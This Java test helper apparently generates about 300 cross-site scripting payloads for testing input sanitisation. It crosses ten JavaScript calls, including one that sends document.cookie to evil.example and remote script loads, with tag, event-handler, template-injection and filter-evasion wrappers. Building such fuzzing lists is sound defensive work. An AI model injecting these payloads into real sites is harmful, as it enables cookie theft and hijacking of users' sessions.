package io.wanping.testing;

import java.util.ArrayList;
import java.util.List;

/** Three hundred texts that run as scripts wherever a page takes them for anything but text. */
public final class HostileScripts {

    private HostileScripts() {}

    /** Ways to call, in ways to get there. */
    public static List<String> list() {
        List<String> calls = List.of(
                "alert(1)",
                "alert(document.cookie)",
                "fetch('//evil.example/'+document.cookie)",
                "eval(atob('YWxlcnQoMSk='))",
                "import('//evil.example/x.js')",
                "top.location='//evil.example'",
                "window['al'+'ert'](1)",
                "confirm`1`",
                "\\u0061lert(1)",
                "throw onerror=alert,1");
        List<String> ways = List.of(
                "<script>%s</script>",
                "<SCRIPT SRC=//evil.example/x.js>%s</SCRIPT>",
                "<img src=x onerror=%s>",
                "<img src=x onerror=\"%s\">",
                "<svg onload=%s>",
                "<svg/onload=%s//",
                "<svg><animate onbegin=%s attributeName=x dur=1s>",
                "<body onload=%s>",
                "<iframe src=\"javascript:%s\">",
                "<iframe srcdoc=\"<script>%s</script>\">",
                "<a href=\"javascript:%s\">点</a>",
                "<a href=\"jAvAsCrIpT:%s\">x</a>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=%s>",
                "\"><script>%s</script>",
                "'><img src=x onerror=%s>",
                "</textarea><script>%s</script>",
                "</title><script>%s</script>",
                "</script><script>%s</script>",
                "<!--><img src=x onerror=%s>-->",
                "<![CDATA[<script>%s</script>]]>",
                "{{constructor.constructor('%s')()}}",
                "${%s}",
                "#{%s}",
                "<%%= %s %%>",
                "javascript:%s",
                "data:text/html,<script>%s</script>",
                "=HYPERLINK(\"javascript:%s\")",
                "';%s;//",
                "\\\"};%s;//",
                "＜script＞%s＜/script＞",
                "<details open ontoggle=%s>");
        List<String> payloads = new ArrayList<>();
        for (String way : ways) {
            for (String call : calls) {
                payloads.add(String.format(way.contains("%%") ? way : way.replace("%s", "%1$s"), call));
            }
        }
        return payloads;
    }
}
